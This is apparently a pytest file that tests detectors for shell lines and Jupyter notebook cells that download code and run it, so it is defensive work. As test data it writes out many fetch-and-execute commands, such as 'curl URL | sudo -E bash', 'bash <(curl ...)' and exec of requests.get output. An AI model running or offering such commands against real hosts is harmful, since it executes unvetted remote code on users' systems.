"""A download that is run is told from one that is kept, unpacked or looked at."""

from __future__ import annotations

import time

import pytest

from jupyter_handoff.notebook import cells_notebook, remote_code, runs_download

URL = "https://a.com/x.sh"


@pytest.mark.parametrize(
    ("line", "by"),
    [
        (f"curl {URL} | sh", "sh"),
        (f"curl -sSL {URL}|bash", "bash"),
        (f"wget -qO- {URL} | sudo -E bash -", "bash"),
        (f"curl {URL} | sudo -u ana -H bash -s -- --yes", "bash"),
        (f"curl {URL} | env A=1 /bin/sh", "sh"),
        (f"curl {URL} | tee x.sh | bash -x", "bash"),
        (f"curl {URL} | gunzip -c | sh 2>&1", "sh"),
        (f"curl {URL} | python3", "python3"),
        (f"curl {URL} | python -u -", "python"),
        (f"curl {URL} | perl - App", "perl"),
        (f"bash <(curl -s {URL})", "bash"),
        (f"source <(curl -s {URL})", "source"),
        (f'sh -c "$(curl -fsSL {URL})"', "sh"),
        (f"eval `wget -qO- {URL}`", "eval"),
        (f"cd /tmp && curl {URL} | bash", "bash"),
        (f"ssh host 'curl {URL} | bash'", "bash"),
        (f"curl {URL} | tar xz", ""),
        (f"curl {URL} | bash count.sh", ""),
        (f"curl {URL} | bash -c 'cat'", ""),
        (f"curl {URL} | python -m json.tool", ""),
        (f"curl {URL} | python3 -c 'import sys'", ""),
        (f"curl {URL} | perl -pe s/a/b/", ""),
        (f"curl {URL} | jq .a | head", ""),
        (f"curl {URL} || sh b.sh | bash", ""),
        (f"curl {URL} -o x.sh; bash x.sh", ""),
        ("curl http://localhost:8080/x | sh", ""),
        ("cat x.sh | bash", ""),
        (f"echo {URL} | bash", ""),
        (f"VAR=$(curl {URL}) bash x.sh", ""),
    ],
)
def test_what_runs_a_download_is_told(line: str, by: str) -> None:
    assert runs_download(line) == by


@pytest.mark.parametrize(
    ("source", "by"),
    [
        (f"%run {URL}", ["%run"]),
        (f"get_ipython().run_line_magic('run', '{URL}')", ["%run"]),
        ("import requests\nexec(requests.get(u).text)", ["exec"]),
        ("from urllib.request import urlopen\nx = urlopen(u).read()\nexec(x)", ["exec"]),
        ("%run helpers.py", []),
        (f"get_ipython().run_line_magic('load', '{URL}')", []),
        ("exec(open('a.py').read())", []),
        ("import requests\nx = requests.get(u).text", []),
    ],
)
def test_remote_code_is_found_in_a_notebook(source: str, by: list[str]) -> None:
    assert [found.by for found in remote_code(cells_notebook([source]))] == by


@pytest.mark.parametrize(
    "piece", ["curl | ", "'curl | ", "bash <(", "sh -c ", "| sudo -u ", "a=b ", "sh -", "'|curl '"]
)
def test_no_line_takes_long(piece: str) -> None:
    start = time.process_time()
    runs_download(f"curl {piece * 10_000}")
    assert time.process_time() - start < 2
